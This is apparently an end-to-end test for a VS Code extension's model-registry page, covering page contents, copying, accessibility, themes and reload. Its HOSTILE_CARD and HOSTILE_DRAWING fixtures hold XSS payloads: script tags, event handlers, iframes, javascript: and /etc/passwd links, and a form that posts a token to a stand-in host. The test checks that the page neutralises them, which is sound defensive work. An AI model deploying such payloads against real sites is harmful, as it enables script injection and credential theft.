import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { until } from '../setup/until.ts';
import { safetensors } from '../unit/weights/weightFiles.ts';
import { accessibilityFaults, colourFaults } from './accessibility.ts';
import { sharedStageWindow } from './stageWindow.ts';
import type { StageWindow } from './stageWindow.ts';
import { OPENING, themes } from './workbench.ts';

const DAY_MS = 86_400_000;
const model = 'acme/tone-of-voice';
const elsewhere = 'https://tracker.example';

const TENSORS = {
  'model.embed_tokens.weight': { dtype: 'BF16', shape: [4000, 64] },
  'model.layers.0.attention.qweight': { dtype: 'I32', shape: [64, 1024] },
  'model.layers.0.attention.scales': { dtype: 'F16', shape: [16, 1024] },
  'model.layers.0.norm.weight': { dtype: 'F32', shape: [64] },
  'model.layers.1.attention.qweight': { dtype: 'I32', shape: [64, 1024] },
  'model.layers.1.attention.scales': { dtype: 'F16', shape: [16, 1024] },
  'model.layers.1.norm.weight': { dtype: 'F32', shape: [64] },
  'lm_head.weight': { dtype: 'BF16', shape: [4000, 64] },
} as const;

/** Of all tensors, as people write numbers. */
const PARAMETERS = Object.values(TENSORS)
  .map(({ shape }) => shape.reduce((product: number, length) => product * length, 1))
  .reduce((sum, count) => sum + count, 0)
  .toLocaleString('en');

const CHART = `<svg xmlns="http://www.w3.org/2000/svg" width="480" height="120" viewBox="0 0 480 120">
${[91, 87, 84, 79].map((share, row) => `<rect x="0" y="${row * 30 + 4}" width="${share * 5}" height="20" rx="3" fill="#2f81f7"/>`).join('\n')}
</svg>
`;

const CARD = `---
license: apache-2.0
language: [en, de, fr, es]
library_name: transformers
pipeline_tag: text-classification
---
# Tone of voice

Tells how a message sounds: friendly, neutral, impatient or angry. Meant for **triage of support mail**, not for judging people.

## Results

| Language | Accuracy | Messages |
|---|---|---|
| English | 91 % | 40,000 |
| German | 87 % | 12,000 |
| French | 84 % | 9,500 |
| Spanish | 79 % | 7,200 |

![Accuracy by language](docs/accuracy.svg)

## Use

\`\`\`python
from transformers import pipeline

tone = pipeline("text-classification", "${model}")
tone("Where is my parcel?")
\`\`\`

The [configuration](config.json) names the labels; [the paper](https://example.com/paper) tells of the data.
`;

const HOSTILE_CARD = `# Tone of voice

<script>globalThis.harm = 'script'</script>
<img src="no.png" onerror="globalThis.harm = 'handler'">
<svg onload="globalThis.harm = 'drawing'"><image href="${elsewhere}/drawing"/></svg>
<iframe src="${elsewhere}/frame"></iframe><iframe srcdoc="<script>parent.harm = 'frame'</script>"></iframe>
<object data="${elsewhere}/object"></object><embed src="${elsewhere}/embed">
<video src="${elsewhere}/video" poster="${elsewhere}/poster"></video><audio src="${elsewhere}/audio" autoplay></audio>
<style>@import url("${elsewhere}/style"); body { display: none }</style>
<link rel="stylesheet" href="${elsewhere}/link"><meta http-equiv="refresh" content="0; url=${elsewhere}/refresh">
<base href="${elsewhere}/">
<form action="${elsewhere}/form"><input name="token"><button>Send your token</button></form>
<div style="position: fixed; inset: 0; background: url(${elsewhere}/background)">Over everything</div>
<img src="${elsewhere}/pixel.png" srcset="${elsewhere}/twice.png 2x" alt="one pixel">
<details open ontoggle="globalThis.harm = 'toggle'"><summary>More</summary>It was open.</details>

[quit](command:workbench.action.quit) [run](javascript:globalThis.harm='link') [read](file:///etc/passwd) [out](../../../etc/passwd)

![a drawing](docs/accuracy.svg)

The end
`;

const HOSTILE_DRAWING = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40">
<script>parent.harm = 'drawn'</script><image href="${elsewhere}/drawn" width="9" height="9"/><rect width="40" height="40"/>
</svg>
`;

/** The commit that the newest version says it was published as. */
const PUBLISHED_AS = '5ca1ab1e'.repeat(5);

const ATTRIBUTES = '*.safetensors filter=lfs diff=lfs merge=lfs -text\n';
const FILES = {
  '.gitattributes': ATTRIBUTES,
  'README.md': CARD,
  'config.json': '{ "model_type": "bert", "num_labels": 4 }\n',
  'docs/accuracy.svg': CHART,
  'model.safetensors': safetensors(TENSORS),
  'tokenizer.json': '{}\n',
};
const OLDER_FILES = {
  '.gitattributes': ATTRIBUTES,
  'README.md': HOSTILE_CARD,
  'docs/accuracy.svg': HOSTILE_DRAWING,
  'model.safetensors': safetensors({ 'head.weight': { dtype: 'F32', shape: [7, 11] } }),
};

describe('a person reads a model page', function () {
  this.timeout(5 * 60_000);

  let window: StageWindow;
  let older: string;
  let newest: string;
  /** Requests of the window to anybody but its VS Code. */
  const foreign: string[] = [];

  before(async () => {
    window = await sharedStageWindow();
    const { stage, workbench } = window;
    const { registry } = stage;
    workbench.page.on('request', (request) => {
      const { protocol, origin, hostname } = new URL(request.url());
      const isOfVscode =
        ['data:', 'blob:'].includes(protocol) ||
        origin === new URL(stage.url).origin ||
        // What a webview loads of the extension; VS Code answers it itself.
        hostname.endsWith('.vscode-cdn.net');
      if (!isOfVscode) foreign.push(request.url());
    });
    const publish = (files: Readonly<Record<string, string | Buffer>>, message: string, days: number) =>
      registry.addModelVersion(
        registry.organization,
        registry.registry,
        model,
        files,
        message,
        new Date(Date.now() - days * DAY_MS),
      );
    older = await publish(OLDER_FILES, 'A first try', 5);
    newest = await publish(FILES, `Learn Spanish\n\nGit-Commit: ${PUBLISHED_AS}`, 2);
    await workbench.page.setViewportSize({ width: 1200, height: 900 });
    await workbench.signIn(registry.token);
  });
  beforeEach(async () => {
    const { workbench } = window;
    await window.rest();
    await workbench.expand('Acme');
    await workbench.expand('models');
    await workbench.row(model).waitFor();
  });
  after(async () => {
    await window.workbench.screenshot('end-model-page');
    await window.close();
  });

  /** One of the parts of the page. */
  const part = (name: string) => window.workbench.webview.getByRole('region', { name });
  const button = (name: string | RegExp) => window.workbench.webview.getByRole('button', { name });
  const inPage = async <T>(expression: string) =>
    (await window.workbench.webview.locator('body').evaluate(expression)) as T;
  /** What of the page leaves the pane, but for what scrolls by itself. */
  const beyond = () =>
    inPage<string[]>(
      `[...document.querySelectorAll('main *')]
        .filter((one) => one.checkVisibility() && !one.parentElement.closest('.scroll, pre'))
        .filter((one) => one.getBoundingClientRect().right > innerWidth + 1)
        .map((one) => one.outerHTML.slice(0, 80))`,
    );
  const shows = async (commit: string) => {
    await window.workbench.webview.locator('dd').getByText(commit).waitFor();
    await part('Versions')
      .getByRole('row', { name: `${commit.slice(0, 7)} shown` })
      .waitFor();
  };
  const openPage = async () => {
    const { workbench } = window;
    await workbench.pressIn(workbench.row(model), 'Open Model Page');
    await workbench.webview.getByRole('heading', { name: model, level: 1 }).waitFor();
    await shows(newest);
  };
  const showOlder = async () => {
    await button(`Show version ${older.slice(0, 7)}`).click();
    await shows(older);
  };
  const copied = (name: string) => window.workbench.copiedBy(() => button(name).click());

  it('opened from the row, with all there is to know of the newest version', async () => {
    const { workbench } = window;
    await openPage();

    const glance = workbench.webview.getByRole('list', { name: 'At a glance' });
    for (const chip of ['Task text-classification', 'License apache-2.0', 'Format safetensors']) {
      await glance.getByRole('listitem').filter({ hasText: chip }).waitFor();
    }
    for (const chip of [/^Size \d.* MB$/, /^Parameters \d+K$/]) {
      await glance.getByRole('listitem').filter({ hasText: chip }).waitFor();
    }
    const top = workbench.webview.locator('header');
    await top.getByText('Learn Spanish').waitFor();
    await top.getByText('Newest version').waitFor();
    await top.getByText(`Files since ${older.slice(0, 7)}: 3 changed, 2 added`).waitFor();
    await top.locator('dd').getByText(PUBLISHED_AS).waitFor();

    await part('Weights').getByText(PARAMETERS).waitFor();
    for (const dtype of ['BF16', 'F16', 'F32', 'I32']) {
      await part('Weights')
        .getByRole('row', { name: new RegExp(`^${dtype} `) })
        .first()
        .waitFor();
    }
    await part('Weights').getByText('Tensors', { exact: true }).last().click();
    await part('Weights').getByRole('row', { name: 'lm_head.weight BF16 4000 × 64' }).waitFor();

    const card = part('Model card');
    await card.getByText('apache-2.0').waitFor();
    await card.getByRole('heading', { name: 'Results' }).waitFor();
    await card.getByRole('row', { name: 'German 87 % 12,000' }).waitFor();
    const picture = card.getByRole('img', { name: 'Accuracy by language' });
    await picture.and(workbench.webview.locator('[src^="data:"]')).waitFor();
    await inPage(`document.querySelector('.readme img').decode()`);
    assert.equal(await inPage(`document.querySelector('.readme img').naturalWidth`), 480);

    const digest = createHash('sha256').update(FILES['model.safetensors']).digest('hex');
    await part('Files')
      .getByRole('row', { name: /model\.safetensors \d.* MB LFS/ })
      .filter({ hasText: digest.slice(0, 12) })
      .waitFor();
    for (const path of Object.keys(FILES)) await button(path).first().waitFor();

    await part('Versions').getByText('2 days ago').waitFor();
    await part('Versions').getByText('5 days ago').waitFor();
    await part('Install')
      .getByText(new RegExp(`hf download ${model} --revision ${newest}`))
      .waitFor();
  });

  it('opened from the menu, which leads to the same page', async () => {
    const { workbench } = window;
    await workbench.chooseFromContextMenu(workbench.row(model), 'Open Model Page');
    await workbench.webview.getByRole('heading', { name: model, level: 1 }).waitFor();
    await openPage();
    assert.equal(await workbench.tab(model).count(), 1);
  });

  it('and copies what it names, and goes on to the commands, a file and a download', async () => {
    const { workbench } = window;
    const { registry } = window.stage;
    await openPage();
    assert.equal(await copied('Copy Commit SHA'), newest);
    assert.equal(await copied('Copy Model ID'), model);
    assert.equal(
      await copied('Copy Address'),
      `${registry.packagesUrl}/${registry.organization}/${registry.registry}/huggingface`,
    );
    assert.equal(
      await copied('Copy the SHA-256 of model.safetensors'),
      createHash('sha256').update(FILES['model.safetensors']).digest('hex'),
    );
    assert.match(await copied('Copy install command'), new RegExp(`download ${model} .*${newest}`, 's'));

    await button('Install & Publish Commands').click();
    await workbench.webview.getByRole('tab', { name: 'Install' }).waitFor();
    await workbench.webview.locator('pre:visible').filter({ hasText: newest }).first().waitFor();
    await workbench.tab(model).first().click();
    await button('Download…').click();
    await workbench.quickInput.titled(`Folder for ${model} at ${newest.slice(0, 7)}`);
    await workbench.page.keyboard.press('Escape');
    await button('config.json').click();
    await workbench.page.locator('.editor-instance .view-lines').getByText('"num_labels"').waitFor();
    await workbench.tab(model).first().click();
    await shows(newest);

    await button(`Compare with ${older.slice(0, 7)}`).click();
    await workbench
      .tab(`${model}: ${older.slice(0, 7)} “A first try” ↔ ${newest.slice(0, 7)} “Learn Spanish”`)
      .waitFor();
    await workbench.tab(model).first().click();
    await shows(newest);
  });

  it('without harm from a card that means it, of another version chosen in the page', async () => {
    const { workbench } = window;
    await openPage();
    await showOlder();
    const top = workbench.webview.locator('header');
    await top.getByText('Not the newest version').waitFor();
    await top.getByText('The first version').waitFor();
    const card = part('Model card');
    await card.getByText('The end').waitFor();
    await card
      .getByRole('img', { name: 'a drawing' })
      .and(workbench.webview.locator('[src^="data:"]'))
      .waitFor();
    await part('Weights').getByRole('cell', { name: 'F32' }).first().waitFor();
    await workbench.screenshot('model-page-hostile');
    assert.equal(await inPage('globalThis.harm ?? "none"'), 'none');
    assert.deepEqual(await card.getByRole('link').allInnerTexts(), []);
    assert.equal(
      await card.locator('form, input, iframe, object, embed, video, audio, style, link').count(),
      0,
    );
    // Nothing lies over the page: Playwright presses what is there.
    assert.equal(await copied('Copy Commit SHA'), older);
    await card.getByRole('button', { name: 'Image on tracker.example: one pixel' }).click();
    await workbench.dialog.getByText(`${elsewhere}/pixel.png`).waitFor();
    await workbench.dialog.getByRole('button', { name: 'Cancel' }).click();
    assert.deepEqual(foreign, []);
    assert.deepEqual(await accessibilityFaults(workbench.webview), []);
  });

  it('by keyboard alone: everything can be reached and shows that it has the focus', async () => {
    const { workbench } = window;
    const { keyboard } = workbench.page;
    await openPage();
    await button(`Show version ${older.slice(0, 7)}`).press('Enter');
    await shows(older);
    await button(`Show the newest, ${newest.slice(0, 7)}`).press('Enter');
    await shows(newest);
    await part('Model card').getByRole('heading', { name: 'Results' }).waitFor();
    await part('Weights').getByText(PARAMETERS).waitFor();
    const name = `((one) => one.getAttribute('aria-label') || one.textContent.trim() || one.localName)`;
    const expected = await inPage<string[]>(
      `[...document.querySelectorAll('button, a[href], summary, [tabindex="0"]')].filter((one) => one.checkVisibility()).map(${name})`,
    );
    assert.ok(expected.length > 15, expected.join(', '));
    await inPage(`document.querySelector('h1').focus()`);
    const reached: string[] = [];
    while (reached.length < expected.length) {
      await keyboard.press('Tab');
      const focus = await inPage<{ name: string; ring: boolean }>(`(() => {
        const { activeElement } = document;
        const { outlineStyle, outlineWidth, outlineColor } = getComputedStyle(activeElement);
        const ring = outlineStyle !== 'none' && parseFloat(outlineWidth) >= 1 && !outlineColor.endsWith(', 0)');
        return { name: ${name}(activeElement), ring };
      })()`);
      assert.ok(focus.ring, `${focus.name} does not show that it has the focus`);
      reached.push(focus.name);
      if (reached.length === 3) await workbench.screenshot('model-page-focus');
    }
    assert.deepEqual(reached, expected);
  });

  it('and axe-core finds nothing in any theme', async () => {
    const { workbench } = window;
    await openPage();
    for (const [index, { name, kind, picture }] of themes.entries()) {
      await workbench.chooseTheme(name, kind);
      await workbench.themed(kind);
      await workbench.webview.getByRole('heading', { name: model, level: 1 }).waitFor();
      await shows(newest);
      const faults = index === 0 ? accessibilityFaults : colourFaults;
      assert.deepEqual(await faults(workbench.webview), [], name);
      await workbench.picture(`model-page-${picture}`);
      for (const [place, title] of ['readme', 'files'].entries()) {
        await inPage(`document.querySelector('section[data-part="${title}"]').scrollIntoView()`);
        await workbench.screenshot(`model-page-${picture}-${place + 2}`);
      }
      await inPage(`scrollTo(0, 0)`);
    }
    const usual = workbench.page.viewportSize();
    assert(usual);
    try {
      // As a window of twice that size shows at 200 %, and as narrow as an editor gets.
      for (const [name, size] of [
        ['1200', { width: 1200, height: 800 }],
        ['200-percent', { width: 640, height: 400 }],
        ['narrow', { width: 420, height: 800 }],
      ] as const) {
        await workbench.page.setViewportSize(size);
        await until(async () => (await beyond()).length === 0, `nothing leaves the pane: ${name}`);
        await workbench.screenshot(`model-page-${name}`);
      }
    } finally {
      await workbench.page.setViewportSize(usual);
    }
  });

  it('and has the same version back after the window is loaded anew, once signed in', async () => {
    const { stage, workbench } = window;
    await openPage();
    await showOlder();
    // Before the window is there again, so that this is not its old page.
    const loaded = workbench.page.waitForEvent('load');
    await workbench.runCommand('Developer: Reload Window');
    await loaded;
    await workbench.webview.getByRole('heading', { name: model, level: 1 }).waitFor(OPENING);
    await workbench.webview.locator('dd').getByText(older).waitFor();
    // A VS Code in the browser, without a keychain, keeps secrets no longer than its page.
    await workbench.webview.getByRole('alert').getByText('You are signed out').waitFor();
    await part('Model card').getByText('Shown once you are signed in.').waitFor();
    assert.deepEqual(await accessibilityFaults(workbench.webview), []);
    await workbench.screenshot('model-page-signed-out');
    await button('Sign In Again').click();
    await workbench.quickInput.titled('Sign in to Buildkite');
    await workbench.quickInput.type(stage.registry.token);
    await workbench.quickInput.accept();
    await shows(older);
    await part('Model card').getByText('The end').waitFor();
    await button('Install & Publish Commands').waitFor();
    await button('Sign In Again').waitFor({ state: 'detached' });
  });
});
